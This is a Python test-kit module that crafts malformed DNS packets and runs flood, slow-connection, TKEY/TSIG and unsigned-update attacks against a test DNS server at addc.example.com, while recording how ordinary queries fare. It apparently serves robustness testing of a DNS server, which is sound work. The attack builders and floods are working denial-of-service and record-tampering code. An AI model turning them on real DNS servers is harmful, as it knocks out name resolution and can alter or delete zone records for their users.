"""Attacks on a DNS server, run by an attacker: `python -m tests.kit.dns_attacks NAME SERVER [WORD]...`.

Each prints one line of JSON: what was sent, what came back, and how ordinary questions fared meanwhile.
"""

import json
import os
import random
import selectors
import socket
import struct
import sys
import threading
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from typing import Final

ZONE: Final = "addc.example.com"
HOST: Final = f"dc1.{ZONE}"
_PORT: Final = 53
_ANY: Final = 255
_TKEY: Final = 249
_TSIG: Final = 250
_UPDATE: Final = 0x2800
_NOTIFY: Final = 0x2400
_WINDOW: Final = 128
_PROBE_GAP_S: Final = 0.02
_TRIES: Final = 5
_TRY_S: Final = 1.0
Found = dict[str, object]


# --- messages, octet by octet, since no library writes wrong ones ---


def name(text: str) -> bytes:
    parts = [one.encode() for one in text.split(".") if one]
    return b"".join(bytes((len(one),)) + one for one in parts) + b"\0"


def head(flags: int = 0x0100, counts: tuple[int, int, int, int] = (1, 0, 0, 0), number: int = 1) -> bytes:
    return struct.pack("!6H", number, flags, *counts)


def question(text: str = HOST, qtype: int = 1, qclass: int = 1) -> bytes:
    return name(text) + struct.pack("!HH", qtype, qclass)


def rr(owner: bytes, rtype: int, rclass: int, data: bytes, ttl_s: int = 0) -> bytes:
    return owner + struct.pack("!HHIH", rtype, rclass, ttl_s, len(data)) + data


def query(text: str = HOST, qtype: int = 1, *, flags: int = 0x0100) -> bytes:
    return head(flags) + question(text, qtype)


def with_edns(data: bytes, options: bytes = b"", *, size: int = 4096, dnssec: bool = False) -> bytes:
    opt = b"\0" + struct.pack("!HHIH", 41, size, 0x8000 if dnssec else 0, len(options)) + options
    return data[:10] + (int.from_bytes(data[10:12], "big") + 1).to_bytes(2, "big") + data[12:] + opt


def tsig(
    mac: bytes = bytes(32),
    *,
    algorithm: bytes = name("hmac-sha256"),
    key: bytes = name("no.such.key"),
    at_s: int | None = None,
) -> bytes:
    when = int(time.time()) if at_s is None else at_s
    data = algorithm + when.to_bytes(6, "big") + struct.pack("!HH", 300, len(mac)) + mac + bytes(6)
    return rr(key, _TSIG, _ANY, data)


def tkey(token: bytes, mode: int = 3, key: str = "attack.1") -> bytes:
    now = int(time.time())
    data = name("gss-tsig") + struct.pack("!IIHHH", now, now, mode, 0, len(token)) + token + b"\0\0"
    return head(0, (1, 0, 0, 1)) + question(key, _TKEY, _ANY) + rr(name(key), _TKEY, _ANY, data)


def update(*records: bytes, zone: str = ZONE, prerequisites: Sequence[bytes] = ()) -> bytes:
    counts = (1, len(prerequisites), len(records), 0)
    return head(_UPDATE, counts) + question(zone, 6) + b"".join((*prerequisites, *records))


def _lying(record: bytes) -> bytes:
    """With a MAC that is longer than the record."""
    at = len(record) - 6 - 32 - 2
    return record[:at] + b"\xff\xff" + record[at + 2 :]


def malformed() -> dict[str, bytes]:
    """Messages that are wrong in one way each."""
    one = question()
    long = b"\x3f" + b"a" * 63
    own = query()
    at_12 = b"\xc0\x0c"
    return {
        "pointer to itself": head() + at_12 + b"\0\1\0\1",
        "pointers in a ring": head() + b"\xc0\x0e\xc0\x0c\0\1\0\1",
        "pointer forward": head() + b"\xc0\x20\0\1\0\1" + bytes(30),
        "pointer into the header": head() + b"\xc0\x02\0\1\0\1",
        "name of 256 octets": head() + long * 4 + b"\0\0\1\0\1",
        "label without end": head() + b"\x3f" + b"a" * 9,
        "label type 01": head() + b"\x41" + b"a" * 8 + b"\0\0\1\0\1",
        "label type 10": head() + b"\x81" + b"a" * 8 + b"\0\0\1\0\1",
        "65,535 questions, one there": head(counts=(65_535, 0, 0, 0)) + one,
        "two questions": head(counts=(2, 0, 0, 0)) + one + one,
        "3,000 questions": head(counts=(3000, 0, 0, 0)) + one + (at_12 + b"\0\1\0\1") * 2999,
        "65,535 of everything": head(counts=(65_535,) * 4) + one,
        "no question": head(counts=(0, 0, 0, 0)),
        "RDATA behind the end": head(counts=(1, 1, 0, 0)) + one + rr(at_12, 1, 1, b"")[:-1] + b"\xff",
        "RDATA longer than its type": head(counts=(1, 1, 0, 0)) + one + rr(at_12, 1, 1, bytes(9)),
        "RDATA shorter than its name": head(counts=(1, 1, 0, 0)) + one + rr(at_12, 5, 1, b"\x03ab"),
        "two OPT": with_edns(with_edns(own)),
        "option longer than OPT": with_edns(own, b"\0\x0a\xff\xff"),
        "cookie of 5 octets": with_edns(own, b"\0\x0a\0\x05aaaaa"),
        "header alone": head(),
        "eleven octets": head()[:11],
        "opcode 7": head(0x3800) + one,
        "a reply": head(0x8180) + one,
        "TSIG before another record": head(counts=(1, 0, 0, 2)) + one + tsig() + rr(at_12, 1, 1, bytes(4)),
        "TSIG in the answer": head(counts=(1, 1, 0, 0)) + one + tsig(),
        "two TSIG": head(counts=(1, 0, 0, 2)) + one + tsig() + tsig(),
        "TSIG of a compressed algorithm": head(counts=(1, 0, 0, 1)) + one + tsig(algorithm=at_12),
        "TSIG whose lengths lie": head(counts=(1, 0, 0, 1)) + one + _lying(tsig()),
        "TSIG of an unknown key": head(counts=(1, 0, 0, 1)) + one + tsig(),
        "TSIG by GSS-API of no context": head(counts=(1, 0, 0, 1)) + one + tsig(algorithm=name("gss-tsig")),
        "TKEY without its record": head(counts=(1, 0, 0, 0)) + question("k", _TKEY, _ANY),
        "TKEY of mode 2": tkey(b"x", 2),
        "TKEY that deletes another's": tkey(b"", 5, "somebody.else"),
        "TKEY with a token of 60,000 octets": tkey(b"\x60" + bytes(60_000)),
        "TKEY with NTLM": tkey(b"NTLMSSP\0\1\0\0\0" + bytes(24)),
        "update of the zone's own name": update(rr(name(ZONE), 1, 1, bytes((6, 6, 6, 6)), 60)),
        "update that deletes a DC": update(rr(name(HOST), _ANY, _ANY, b"")),
        "update of 1,000 prerequisites": update(
            prerequisites=[rr(name(f"n{n}") [:-1] + at_12, _ANY, 254, b"") for n in range(1000)]
        ),
        "update of another zone": update(rr(name("x.example.net"), 1, 1, bytes(4), 60), zone="example.net"),
        "update of type ANY and class IN": update(rr(at_12, _ANY, 1, b"", 60)),
        "NOTIFY": head(_NOTIFY) + question(ZONE, 6),
        "NOTIFY of no zone": head(_NOTIFY) + question("nobody.test", 6),
        "AXFR": query(ZONE, 252),
        "IXFR": head(counts=(1, 0, 1, 0)) + question(ZONE, 251)
        + rr(at_12, 6, 1, name("a") + name("b") + struct.pack("!5I", 1, 1, 1, 1, 1)),
        "IXFR without SOA": query(ZONE, 251),
    }  # fmt: skip


# --- what comes back ---


def code(reply: bytes | None) -> str:
    """The response code, or silence, or what is no reply."""
    if reply is None:
        return "silence"
    if len(reply) < 12 or not reply[2] & 0x80:
        return "no reply"
    names = ("NOERROR", "FORMERR", "SERVFAIL", "NXDOMAIN", "NOTIMP", "REFUSED")
    rcode = reply[3] & 0xF
    told = names[rcode] if rcode < len(names) else {9: "NOTAUTH", 10: "NOTZONE"}.get(rcode, str(rcode))
    return told + ("+TC" if reply[2] & 2 else "") + ("+data" if reply[6:8] != b"\0\0" else "")


def by_udp(server: str, data: bytes, wait_s: float = 2.0) -> bytes | None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
        sock.settimeout(wait_s)
        sock.connect((server, _PORT))
        try:
            sock.send(data)
            return sock.recv(65_535)
        except OSError:
            return None


def exactly(sock: socket.socket, size: int) -> bytes:
    got = b""
    while len(got) < size:
        more = sock.recv(size - len(got))
        if not more:
            raise ConnectionError
        got += more
    return got


def by_tcp(server: str, data: bytes, wait_s: float = 5.0) -> bytes | None:
    try:
        with socket.create_connection((server, _PORT), wait_s) as sock:
            sock.sendall(struct.pack("!H", len(data)) + data)
            return exactly(sock, int.from_bytes(exactly(sock, 2), "big"))
    except OSError:
        return None


class Ordinary:
    """Asks what anybody asks, one question after the other, while an attack runs."""

    def __init__(self, server: str) -> None:
        self._server = server
        self._stop = threading.Event()
        self._took: list[float] = []
        self._lost = self._again = 0
        self._thread = threading.Thread(target=self._run)

    def __enter__(self) -> "Ordinary":
        self._thread.start()
        return self

    def _run(self) -> None:
        number = 0
        while not self._stop.is_set():
            ask = by_tcp if number % 4 == 3 else by_udp
            began = time.monotonic()
            reply = None
            for _ in range(_TRIES):
                reply = ask(self._server, query(HOST), _TRY_S)
                if reply is not None:
                    break
                self._again += 1
            if code(reply) != "NOERROR+data":
                self._lost += 1
            self._took.append(time.monotonic() - began)
            number += 1
            self._stop.wait(_PROBE_GAP_S)

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()

    def found(self) -> Found:
        took = sorted(self._took)
        return {
            "asked": len(took),
            "lost": self._lost,
            "asked_again": self._again,
            "median_ms": round(took[len(took) // 2] * 1000, 1),
            "worst_ms": round(took[-1] * 1000, 1),
        }


def flood(server: str, messages: Iterator[bytes], seconds: float, sources: Sequence[str] = ("",)) -> Found:
    """Datagrams as fast as replies come, or at least without waiting long for those that do not."""
    socks = []
    for source in sources:
        sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        sock.setblocking(False)
        sock.bind((source, 0))
        sock.connect((server, _PORT))
        socks.append(sock)
    chosen = selectors.DefaultSelector()
    for sock in socks:
        chosen.register(sock, selectors.EVENT_READ)
    said: Counter[str] = Counter()
    sent = got = sent_octets = got_octets = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        for _ in range(max(_WINDOW - (sent - got), 16)):
            data = next(messages)
            try:
                socks[sent % len(socks)].send(sent.to_bytes(4, "big")[2:] + data[2:])
            except OSError:
                break
            sent, sent_octets = sent + 1, sent_octets + len(data)
        for key, _ in chosen.select(0.01):
            for _ in range(_WINDOW):
                try:
                    reply = key.fileobj.recv(65_535)  # type: ignore[union-attr]
                except OSError:
                    break
                got, got_octets = got + 1, got_octets + len(reply)
                said[code(reply)] += 1
    return {
        "sent": sent, "replies": got, "seconds": seconds, "said": dict(said),
        "octets_per_octet": round(got_octets / max(sent_octets, 1), 2),
    }  # fmt: skip


def again(data: bytes) -> Iterator[bytes]:
    while True:
        yield data


def while_asking(server: str, attack: Callable[[], Found]) -> Found:
    with Ordinary(server) as ordinary:
        found = attack()
    return {**found, "ordinary": ordinary.found()}


# --- the attacks ---


def each_malformed(server: str) -> Found:
    found = {}
    for label, data in malformed().items():
        udp = code(by_udp(server, data, 1.0)) if len(data) < 60_000 else "too large"
        found[label] = [udp, code(by_tcp(server, data, 1.5))]
    return {**found, "afterwards": [code(by_udp(server, query())), code(by_tcp(server, query()))]}


def random_names(suffix: str, qtype: int = 1) -> Iterator[bytes]:
    rng = random.Random(7)  # noqa: S311
    while True:
        label = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=12))
        yield query(f"{label}.{suffix}", qtype)


def signed_random(suffix: str) -> Iterator[bytes]:
    for one in random_names(suffix):
        yield with_edns(one, dnssec=True)


def forged_cookies() -> Iterator[bytes]:
    rng = random.Random(8)  # noqa: S311
    while True:
        yield with_edns(query(), b"\0\x0a\0\x18" + rng.randbytes(24))


def floods(seconds: float) -> dict[str, Callable[[str], Found]]:
    """Those by datagrams, by name."""
    unsigned = update(rr(name(f"pc9.{ZONE}"), 1, 1, bytes((6, 6, 6, 6)), 60))
    kinds: dict[str, Iterator[bytes]] = {
        "updates": again(unsigned),
        "prerequisites": again(malformed()["update of 1,000 prerequisites"]),
        "notify": again(malformed()["NOTIFY"]),
        "tsig": again(malformed()["TSIG of an unknown key"]),
        "transfers": again(malformed()["IXFR"]),
        "tkey": again(tkey(b"\x60" + bytes(600))),
        "random": random_names(ZONE),
        "denials": signed_random(ZONE),
        "cookies": forged_cookies(),
        "any": again(with_edns(query(ZONE, _ANY))),
        "dnskey": again(with_edns(query(ZONE, 48), dnssec=True)),
        "strangers": random_names("elsewhere.test"),
    }
    return {label: partial(_flooded, stream, seconds) for label, stream in kinds.items()}


def _flooded(stream: Iterator[bytes], seconds: float, server: str) -> Found:
    return while_asking(server, lambda: flood(server, stream, seconds))


def tkey_flood(server: str, tokens: Sequence[bytes], count: int) -> Found:
    """Negotiations that never end, or never begin, one after another on some connections."""
    said: Counter[str] = Counter()

    def attack() -> Found:
        began = time.monotonic()
        with socket.create_connection((server, _PORT), 10) as sock:
            for number in range(count):
                data = tkey(tokens[number % len(tokens)], 3, f"k{number}.attack")
                sock.sendall(struct.pack("!H", len(data)) + data)
                reply = exactly(sock, int.from_bytes(exactly(sock, 2), "big"))
                error = int.from_bytes(reply[-6 - _tail(reply) : -4 - _tail(reply)], "big")
                said[f"{code(reply)} {error}"] += 1
        took = time.monotonic() - began
        return {"sent": count, "said": dict(said), "each_ms": round(took / count * 1000, 2)}

    return while_asking(server, attack)


def _tail(reply: bytes) -> int:
    """Octets of the token in a TKEY reply that ends with its record."""
    at = reply.rfind(b"\x08gss-tsig\0")
    return 0 if at < 0 else int.from_bytes(reply[at + 22 : at + 24], "big")


def slow_streams(server: str, count: int, seconds: float) -> Found:
    """Connections that send an octet now and then, and ones that send questions and read no replies."""

    def attack() -> Found:
        held = []
        refused = cut = 0
        asked = query(ZONE, _ANY)  # by streams, all that the zone's own name holds
        frame = struct.pack("!H", len(asked)) + asked
        for number in range(count):
            try:
                sock = socket.create_connection((server, _PORT), 3)
            except OSError:
                refused += 1
                continue
            sock.sendall(b"" if number % 2 else b"\xff\xff")
            sock.setblocking(False)
            held.append((sock, number % 2))
        until = time.monotonic() + seconds
        alive = list(held)
        while time.monotonic() < until:
            for one in tuple(alive):
                sock, reads_nothing = one
                try:
                    sock.send(frame * 2000 if reads_nothing else b"\0")
                except BlockingIOError:
                    continue
                except OSError:
                    alive.remove(one)
                    cut += 1
            time.sleep(0.2)
        for sock, _ in held:
            sock.close()
        return {"connections": len(held), "refused": refused, "cut": cut}

    return while_asking(server, attack)


def tls_flood(server: str, count: int) -> Found:
    """Connections to the TLS port that say nothing, or rubbish."""

    def attack() -> Found:
        held = []
        for number in range(count):
            try:
                sock = socket.create_connection((server, 853), 3)
                if number % 2:
                    sock.sendall(os.urandom(200))
            except OSError:
                continue
            held.append(sock)
        time.sleep(2)
        for sock in held:
            sock.close()
        return {"connections": len(held)}

    return while_asking(server, attack)


_TOKENS: Final = {
    "garbage": (b"\x60" + bytes(600),),
    "ntlm": (b"NTLMSSP\0\1\0\0\0" + bytes(24),),
    "oversized": (b"\x60\x83\0\xea\x60" + bytes(60_000),),
    "half": (  # SPNEGO that names Kerberos and shows no ticket: it has to be asked for one
        bytes.fromhex("601b06062b0601050502a011300fa00d300b06092a864886f712010202"),
    ),
}


def main(label: str, server: str, *words: str) -> Found:
    seconds = float(words[0]) if words else 3.0
    if label == "malformed":
        return each_malformed(server)
    if label == "slow":
        return slow_streams(server, int(words[1]), seconds)
    if label == "tls":
        return tls_flood(server, int(words[1]))
    if label.startswith("tkey-"):
        return tkey_flood(server, _TOKENS[label.removeprefix("tkey-")], int(words[1]))
    return floods(seconds)[label](server)


if __name__ == "__main__":
    print(json.dumps(main(*sys.argv[1:])))
